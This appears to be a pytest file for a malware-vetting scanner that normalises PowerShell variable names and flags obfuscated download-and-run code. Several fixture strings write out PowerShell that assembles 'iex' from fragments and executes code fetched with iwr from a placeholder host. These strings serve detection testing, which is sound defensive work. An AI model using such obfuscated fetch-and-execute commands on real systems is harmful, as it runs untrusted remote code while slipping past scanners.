"""Variables of PowerShell, whatever scope, type or braces they are written with."""

import pytest

from tests.vetting.domain.code.building.test_files import grows_as_its_text
from tests.vetting.domain.signals.looking import side
from vetting.domain.code.shell_powershell_names import plainly_named
from vetting.domain.signals.code import RULES
from vetting.domain.signals.interface import FileUnderScan
from vetting.domain.signals.scan import scan


@pytest.mark.parametrize(
    ("written", "plain"),
    [
        ("$script:x = $Global:y", "$x = $y"),
        ("${private:x} += 'a'", "$x += 'a'"),
        ('"$using:x ${local:y}"', '"$x ${y}"'),
        ("[string]$x = 1", "$x = 1"),
        ("a; [Byte[]] $x=1 {[List[string]]$variable:y=2", "a; $x=1 {$y=2"),
        ("[ValidateSet('a')][System.String] ${x}=1", "$x=1"),
        ("[string]$x", "[string]$x"),
        ("[string]$x == 1", "[string]$x == 1"),
        ("f([string]$x = 1)", "f([string]$x = 1)"),
        ("${x} $env:x $x::y [a]::b = 1", "${x} $env:x $x::y [a]::b = 1"),
        ("[string] = 1 script:x", "[string] = 1 script:x"),
    ],
)
def test_a_variable_is_named_plainly(written: str, plain: str) -> None:
    """Only where one is given something does its type go; members of types and the environment stay."""
    assert plainly_named(written) == plain


@pytest.mark.parametrize(
    "source",
    [
        "$script:x = 'ie' + 'x'\n& $x (iwr http://demo.example.invalid)\n",
        "[string]$x='ie'+'x'\n& $x (iwr http://demo.example.invalid)\n",
        "$global:p = iwr http://demo.example.invalid\niex $p\n",
        "[Byte[]] $p = iwr http://demo.example.invalid; iex $script:p\n",
        "${x} = 'ie','x' -join ''\n& ${x} (iwr http://demo.example.invalid)\n",
    ],
)
def test_what_it_holds_is_followed(source: str) -> None:
    """To what runs it, as if its name stood there alone."""
    scanned = scan(FileUnderScan(None, side("x.ps1", source.encode())), RULES)
    assert ("C3", "high") in [(one.rule, one.severity.value) for one in scanned.findings]


@pytest.mark.parametrize("part", ["[a]", "[a[", "[a[]]", "[a(", ";[a]", "$script:", "[a]$x ", "${x} ", "[a] "])
def test_the_time_grows_as_the_line_does(part: str) -> None:
    """However many types a name seems to have."""
    assert grows_as_its_text(lambda size: plainly_named("$=:" + part * size))
